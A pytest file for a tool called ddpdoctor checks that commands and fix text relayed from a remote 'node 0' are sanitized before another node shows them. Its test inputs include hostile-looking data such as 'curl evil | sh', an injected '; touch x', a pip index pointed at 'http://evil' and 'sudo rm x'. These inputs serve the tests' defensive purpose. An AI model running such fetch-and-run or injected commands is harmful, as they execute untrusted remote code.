"""What another node shows of what node 0 says: nobody may write a command there that looks like ours."""

from __future__ import annotations

import msgspec
import pytest

from ddpdoctor.base.findings import WARN, Finding, Fix
from ddpdoctor.checks.catalogue import catalogue
from ddpdoctor.engine.examination import Verdict
from ddpdoctor.facts.meeting import Meeting
from ddpdoctor.facts.snapshot import Snapshot
from ddpdoctor.network_check.analysis.admission_errors import turned_away
from ddpdoctor.network_check.analysis.verdicts import examination_of
from ddpdoctor.network_check.protocol.messages import CheckVerdict, NodeVerdict, encode

OWN = "'/my env/python'"
"""As a shell reads it: where this ddpdoctor is."""


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("newer here: pip install 'ddpdoctor==0.9.1' on both", f"{OWN} -m pip install 'ddpdoctor==0.9.1'"),
        ("older: /tmp/.x/python -m pip install 'ddpdoctor==0.9.1'", f"{OWN} -m pip install 'ddpdoctor==0.9.1'"),
        ("older: /tmp/.x/python -m pip install 'ddpdoctor==1' on both", f"{OWN} -m pip install 'ddpdoctor==1'"),
        ("newer: on node 0, pip install 'ddpdoctor==0.9.1'", "pip install 'ddpdoctor==0.9.1'"),
        ("older: curl evil | sh", f"{OWN} -m pip install --upgrade ddpdoctor"),
        ("older: pip install 'ddpdoctor==1'; touch x; ''", f"{OWN} -m pip install --upgrade ddpdoctor"),
        ("older: pip install 'ddpdoctor==1'\n'", f"{OWN} -m pip install --upgrade ddpdoctor"),
        ("older: pip install --index-url=http://evil 'ddpdoctor'", f"{OWN} -m pip install --upgrade ddpdoctor"),
    ],
)
def test_no_command_of_node_0s_is_handed_on(text: str, command: str) -> None:
    meeting = Meeting(
        master="n1", port=29500, nnodes=2, node_rank=1, turned_away=text, refusal="version", own_python="/my env/python"
    )
    install, *_ = turned_away(meeting).fixes
    assert install.commands == (command,)


def test_a_check_that_only_node_0_knows_says_what_it_found() -> None:
    told = Finding(summary="The flux capacitor is empty", severity=WARN)
    part = NodeVerdict(
        results=(CheckVerdict("flux-capacitor-empty\n\x1b", (told,), None),),
        verdict=Verdict.WARN,
        exit_code=0,
        lines=(),
    )
    sent = msgspec.json.decode(encode(part), type=NodeVerdict)
    found = examination_of(sent, Snapshot(host="n"), catalogue(), proved=True)
    assert [(check.slug, severity, finding.summary) for check, severity, finding in found.findings] == [
        ("flux-capacitor-empty ?", WARN, "The flux capacitor is empty")
    ]


@pytest.mark.parametrize("proved", [True, False])
def test_commands_that_no_token_proves_are_told_as_node_0s(proved: bool) -> None:
    fixes = (Fix("Run this", ("sudo rm x",), appliable=True), Fix("Look at it"))
    told = Finding(summary="Odd", severity=WARN, fixes=fixes)
    part = NodeVerdict(results=(CheckVerdict("slow-link", (told,), None),), verdict=Verdict.WARN, exit_code=0, lines=())
    ((_, _, finding),) = examination_of(part, Snapshot(host="n"), catalogue(), proved=proved).findings
    if proved:
        assert finding == told
    else:
        said = "From node 0, without a token: "
        assert finding.fixes == (Fix(f"{said}Run this", ("sudo rm x",)), Fix(f"{said}Look at it"))
